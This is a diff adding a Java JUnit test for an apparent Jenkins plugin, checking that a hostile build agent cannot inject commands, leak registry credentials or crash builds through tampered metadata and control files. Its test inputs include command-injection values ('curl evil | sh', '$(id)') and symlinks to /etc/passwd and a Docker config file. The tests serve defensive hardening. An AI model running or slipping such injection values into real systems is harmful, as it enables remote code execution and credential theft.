@@ -1,0 +1,116 @@
+package io.jenkins.plugins.cvmfs;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import hudson.model.Result;
+import hudson.model.Run;
+import io.jenkins.plugins.cvmfs.harness.ScriptedDocker;
+import io.jenkins.plugins.cvmfs.harness.Setting;
+import io.jenkins.plugins.cvmfs.pages.DerivedImageAction;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.jvnet.hudson.test.JenkinsRule;
+import org.jvnet.hudson.test.junit.jupiter.WithJenkins;
+
+/** What an agent leaves as results is anybody's: each ends in one clear message, in time, and nothing is kept of it. */
+@WithJenkins
+class HostileAgentTest {
+    private static final String PASSWORD = "correct-horse";
+    private static final String STEP = "cvmfsDerivedImage(tags: ['reg.example.org/a:1'], push: true, credentialsId: 'login')";
+
+    @TempDir
+    private Path directory;
+
+    private JenkinsRule jenkins;
+    private ScriptedDocker docker;
+
+    @BeforeEach
+    void start(JenkinsRule rule) throws Exception {
+        jenkins = rule;
+        docker = new ScriptedDocker(directory);
+        docker.agent(jenkins);
+        Setting.allowInsecure();
+        Setting.login("login", "me", PASSWORD);
+    }
+
+    private Run<?, ?> run(Result result, String commands) throws Exception {
+        docker.then(commands + "\n");
+        return Setting.run(jenkins, result,
+                "node('linux') { writeFile file: 'Dockerfile', text: 'FROM a'\n" + STEP + " }");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        // Giant.
+        "head -c 67108864 /dev/zero | tr '\\\\0' ' ' >\"$metadata\"",
+        "{ printf '{\"a\":\"'; head -c 33554432 /dev/zero | tr '\\\\0' x; printf '\"}'; } >\"$metadata\"",
+        // Deep.
+        "head -c 2000000 /dev/zero | tr '\\\\0' '[' >\"$metadata\"",
+        // Cut, empty, something else, no text.
+        "head -c 60 \"$metadata\" >\"$metadata.cut\"; mv \"$metadata.cut\" \"$metadata\"",
+        ": >\"$metadata\"",
+        "rm \"$metadata\"",
+        "printf '[]' >\"$metadata\"",
+        "head -c 4096 /dev/urandom >\"$metadata\"",
+        // No regular file.
+        "rm \"$metadata\"; ln -s \"$DOCKER_CONFIG/config.json\" \"$metadata\"",
+        "rm \"$metadata\"; ln -s /dev/zero \"$metadata\"",
+        "rm \"$metadata\"; mkfifo \"$metadata\"",
+        "rm \"$metadata\"; mkdir \"$metadata\"",
+        // Lying: what becomes a variable of later steps.
+        "sed -i 's/sha256:[0-9a-f]*/sha256:0; curl evil | sh #/g' \"$metadata\"",
+        "sed -i 's/sha256:[0-9a-f]*/$(id)/g' \"$metadata\"",
+    })
+    void metadataThatIsNone(String commands) throws Exception {
+        Run<?, ?> run = run(Result.FAILURE, commands);
+
+        jenkins.assertLogContains("metadata", run);
+        jenkins.assertLogNotContains("\tat ", run);
+        jenkins.assertLogNotContains("curl evil", run);
+        assertThat(run.getAction(DerivedImageAction.class)).isNull();
+        assertNothingKept(run);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "cd \"$DOCKER_CONFIG/../durable\"; rm -rf exit; mkdir exit",
+        "cd \"$DOCKER_CONFIG/../durable\"; ln -s /etc/passwd output",
+        "cd \"$DOCKER_CONFIG/../durable\"; mkfifo output",
+        "echo -1 >\"$DOCKER_CONFIG/../pid\"",
+        "echo 1 >\"$DOCKER_CONFIG/../pid\"",
+    })
+    void whatControlsABuild(String commands) throws Exception {
+        docker.then(commands + "\n");
+        Run<?, ?> run = Setting.pipeline(jenkins,
+                "node('linux') { writeFile file: 'Dockerfile', text: 'FROM a'\n" + STEP + " }")
+                .scheduleBuild2(0).get();
+
+        jenkins.assertLogNotContains("\tat ", run);
+        jenkins.assertLogNotContains("root:x:", run);
+        assertThat(jenkins.jenkins.getComputers()).allMatch(computer -> computer.isOnline());
+        assertNothingKept(run);
+    }
+
+    @Test
+    void moreOutputThanAnybodyReadsEndsWithItsEnd() throws Exception {
+        Run<?, ?> run = run(Result.FAILURE, "i=0; while [ $i -lt 4000 ]; do printf '/dev/fuse/dev/fuse/dev/fuse/dev/fuse'; "
+                + "i=$((i+1)); done >&2; echo >&2; exit 1");
+
+        jenkins.assertLogContains("exit code 1", run);
+        jenkins.assertLogNotContains("\tat ", run);
+    }
+
+    private static void assertNothingKept(Run<?, ?> run) throws Exception {
+        List<String> kept = new ArrayList<>();
+        for (Run<?, ?>.Artifact artifact : run.getArtifacts()) {
+            kept.add(Setting.artifact(run, artifact.getFileName()));
+        }
+        assertThat(String.join("\n", kept)).doesNotContain(PASSWORD, "\"auths\"");
+    }
+}
